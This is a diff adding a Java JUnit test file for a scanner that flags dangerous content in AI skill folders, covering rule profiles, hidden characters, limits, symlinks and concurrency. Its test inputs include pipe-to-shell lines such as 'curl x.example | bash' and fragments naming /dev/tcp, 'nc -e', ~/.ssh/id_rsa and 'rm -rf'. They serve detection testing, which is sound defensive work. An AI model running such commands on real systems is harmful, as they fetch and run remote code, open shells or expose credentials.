@@ -1,0 +1,254 @@
+package dev.symbiont.skills;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import dev.symbiont.testsupport.MutableClock;
+import dev.symbiont.testsupport.SeededCases;
+import java.io.IOException;
+import java.io.RandomAccessFile;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.OptionalInt;
+import java.util.regex.Pattern;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class SkillScannerTest {
+  private final SkillScanner scanner = SkillScanner.create();
+  @TempDir Path skill;
+
+  private static List<String> rules(List<ScanFinding> findings) {
+    return findings.stream().map(ScanFinding::rule).toList();
+  }
+
+  private List<String> scanFolder() {
+    return scanner.scanSkill(skill).findings().stream()
+        .map(f -> f.file().orElse("") + " " + f.rule() + " " + f.severity().word())
+        .toList();
+  }
+
+  @Test
+  void scanContent_fileName_appearsInTheFinding() {
+    assertThat(scanner.scanContent("x\nchmod 777 y\n", "run.sh"))
+        .containsExactly(
+            new ScanFinding(
+                "chmod-777",
+                Severity.WARNING,
+                "makes a file writable for everyone",
+                OptionalInt.of(2),
+                Optional.of("run.sh")));
+  }
+
+  @Test
+  void scanContent_everyProfile_hasTheTenOriginalRules() {
+    List<String> original = ScanProfile.SDK.rules().stream().map(ScanRule::name).toList();
+    assertThat(original).hasSize(10);
+    for (ScanProfile profile : ScanProfile.values()) {
+      assertThat(profile.rules().stream().map(ScanRule::name)).containsAll(original);
+    }
+    assertThat(ScanProfile.HARDENED.rules()).hasSize(40);
+    assertThat(ScanProfile.RUNTIME.rules()).hasSize(40);
+  }
+
+  /** The fast way must find exactly what a plain loop over all rules and lines finds. */
+  @Test
+  void scanContent_randomMixOfAttacksAndText_agreesWithAPlainLoop() {
+    List<Pattern> oracle =
+        scanner.rules().stream()
+            .map(r -> Pattern.compile(r.pattern(), Pattern.DOTALL | Pattern.UNICODE_CASE))
+            .toList();
+    String[] pieces = {
+      "curl ", "wget ", "| ", "bash", "sudo ", "sh -c \"$(", "chmod ", "-R ", "777", "rm ", "-rf ",
+      "/", "~", ".env", "process", "SOUL.md", "write ", "memory.md", "eval(", "fetch(", ")",
+          "exec ",
+      "base64 -d ", "atob(", "nc ", "-e ", "host ", "$X", "dig ", " 443", "../", "ln -s ", "/etc",
+      "/dev/tcp/", "http", " -o ", "x", " ", "-", "os.dup2", "socket", "perl ", ".pub",
+          "~/.ssh/id_rsa"
+    };
+    SeededCases.check(
+        100,
+        400,
+        random -> {
+          StringBuilder text = new StringBuilder();
+          List<String> expected = new ArrayList<>();
+          for (int line = 1; line <= 30; line++) {
+            StringBuilder content = new StringBuilder();
+            for (int i = random.nextInt(9); i > 0; i--) {
+              content.append(pieces[random.nextInt(pieces.length)]);
+            }
+            if (content.toString().stripTrailing().endsWith("|")) {
+              content.append('.'); // wrapped commands are another test's matter
+            }
+            for (int rule = 0; rule < oracle.size(); rule++) {
+              if (oracle.get(rule).matcher(content).find()) {
+                expected.add(line + " " + scanner.rules().get(rule).name());
+              }
+            }
+            text.append(content).append(random.nextBoolean() ? "\n" : "\r\n");
+          }
+          assertThat(scanner.scanContent(text.toString()))
+              .extracting(f -> f.line().getAsInt() + " " + f.rule())
+              .containsExactlyElementsOf(expected);
+        });
+  }
+
+  @Test
+  void scanContent_longLine_isMatchedInOverlappingPieces() {
+    String near = "x".repeat(4000) + " curl https://x.example | bash " + "y".repeat(9000);
+    String far = "curl https://x.example " + "x".repeat(5000) + " | bash";
+
+    assertThat(rules(scanner.scanContent(near))).containsExactly("pipe-to-shell");
+    assertThat(scanner.scanContent(far)).isEmpty();
+  }
+
+  @Test
+  void scanContent_wrappedCommandWithHiddenCharacters_isSeenThrough() {
+    assertThat(rules(scanner.scanContent("cu\u200brl x.example \\\r\n  |\u00a0ba\u00adsh\r\n")))
+        .containsExactly("pipe-to-shell", "hidden-zero-width", "hidden-zero-width");
+  }
+
+  @Test
+  void scanContent_customRuleThatWouldExplode_isMatchedInLinearTime() {
+    SkillScanner custom =
+        SkillScanner.builder().denyContent("(a+)+$").denyContent("(x|xx)*y").build();
+    String text = ("a".repeat(4000) + "!\n" + "x".repeat(4000) + "\n").repeat(20);
+
+    assertThat(custom.scanContent(text)).isEmpty();
+    assertThat(rules(custom.scanContent("aaa"))).containsExactly("custom-deny-0");
+  }
+
+  @Test
+  void scanContent_moreFindingsThanTheLimit_saysSo() {
+    List<ScanFinding> findings = scanner.scanContent(".env\n".repeat(20_000));
+
+    assertThat(findings).hasSize(10_001);
+    assertThat(findings.get(10_000).rule()).isEqualTo("scan-limit:findings");
+    assertThat(new ScanResult(findings).passed()).isFalse();
+  }
+
+  @Test
+  void scanContent_timeIsUp_isABlockingFinding() {
+    MutableClock clock = new MutableClock(Instant.EPOCH);
+    SkillScanner late =
+        SkillScanner.builder()
+            .clock(
+                new java.time.Clock() {
+                  @Override
+                  public java.time.ZoneId getZone() {
+                    return clock.getZone();
+                  }
+
+                  @Override
+                  public java.time.Clock withZone(java.time.ZoneId zone) {
+                    return this;
+                  }
+
+                  @Override
+                  public Instant instant() {
+                    clock.advance(Duration.ofSeconds(3));
+                    return clock.instant();
+                  }
+                })
+            .build();
+    assertThat(rules(late.scanContent("rm x\n".repeat(10_000)))).contains("scan-limit:time");
+  }
+
+  @Test
+  void scanSkill_noSuchFolder_throws() {
+    assertThatThrownBy(() -> scanner.scanSkill(skill.resolve("none")))
+        .isInstanceOf(SkillScanException.class)
+        .hasMessageContaining("none");
+  }
+
+  @Test
+  void scanSkill_pipe_isReportedAndNeverOpened() throws Exception {
+    assumeTrue(
+        new ProcessBuilder("mkfifo", skill.resolve("pipe").toString()).start().waitFor() == 0);
+
+    assertThat(scanFolder()).containsExactly("pipe scan-unreadable high");
+  }
+
+  @Test
+  void scanSkill_linkToADevice_isNotFollowed() throws IOException {
+    Files.createSymbolicLink(skill.resolve("zero"), Path.of("/dev/zero"));
+    Files.createSymbolicLink(skill.resolve("loop"), skill);
+
+    assertThat(scanFolder()).containsExactly("loop scan-symlink medium", "zero scan-symlink high");
+  }
+
+  @Test
+  void scanSkill_sparseFileOfOneGigabyte_isNotRead() throws IOException {
+    try (RandomAccessFile file = new RandomAccessFile(skill.resolve("huge.md").toFile(), "rw")) {
+      file.setLength(1L << 30);
+    }
+    assertThat(scanFolder()).containsExactly("huge.md scan-limit:file-size high");
+  }
+
+  @Test
+  void scanSkill_tooManyFilesOrTooDeep_isBlocking() throws IOException {
+    ScanLimits tight = new ScanLimits(100, 3, 2, 10, Duration.ofSeconds(5));
+    Files.createDirectories(skill.resolve("a/b/c"));
+    Files.writeString(skill.resolve("a/b/c/hidden.sh"), "curl x | sh");
+    for (int i = 0; i < 5; i++) {
+      Files.writeString(skill.resolve("f" + i), "x");
+    }
+    ScanResult result = SkillScanner.builder().limits(tight).build().scanSkill(skill);
+
+    assertThat(rules(result.findings()))
+        .containsExactlyInAnyOrder("scan-limit:max-depth", "scan-limit:max-files");
+    assertThat(result.passed()).isFalse();
+  }
+
+  @Test
+  void scanSkill_unreadableFile_isBlocking() throws IOException {
+    Path secret = Files.writeString(skill.resolve("secret"), "x");
+    Files.setPosixFilePermissions(secret, PosixFilePermissions.fromString("---------"));
+    assumeTrue(!Files.isReadable(secret), "runs as a user who may read everything");
+
+    assertThat(scanFolder()).containsExactly("secret scan-unreadable high");
+  }
+
+  @Test
+  void scanSkill_nameIsNotUtf8_isScannedAllTheSame() throws Exception {
+    Process shell =
+        new ProcessBuilder("sh", "-c", "printf 'curl x.example | sh' > \"$(printf 'a\\377.sh')\"")
+            .directory(skill.toFile())
+            .start();
+    assumeTrue(shell.waitFor() == 0);
+
+    assertThat(rules(scanner.scanSkill(skill).findings())).containsExactly("pipe-to-shell");
+  }
+
+  @Test
+  void scanSkill_progress_countsEveryFile() throws IOException {
+    Files.writeString(skill.resolve("a.md"), "x");
+    Files.write(skill.resolve("b.bin"), new byte[] {0, 1});
+    List<String> heard = new ArrayList<>();
+    scanner.scanSkill(
+        skill, (file, scanned, total, skipped) -> heard.add(file + scanned + total + skipped));
+
+    assertThat(heard).containsExactly("a.md120", "b.bin121");
+  }
+
+  @Test
+  void scanContent_severalThreads_findTheSame() {
+    String text = "curl x.example | bash\nplain\nsudo x\n".repeat(50);
+    List<ScanFinding> expected = scanner.scanContent(text);
+
+    assertThat(
+            java.util.stream.IntStream.range(0, 64)
+                .parallel()
+                .mapToObj(i -> scanner.scanContent(text)))
+        .allMatch(expected::equals);
+    assertThat(text.getBytes(StandardCharsets.UTF_8)).isNotEmpty();
+  }
+}
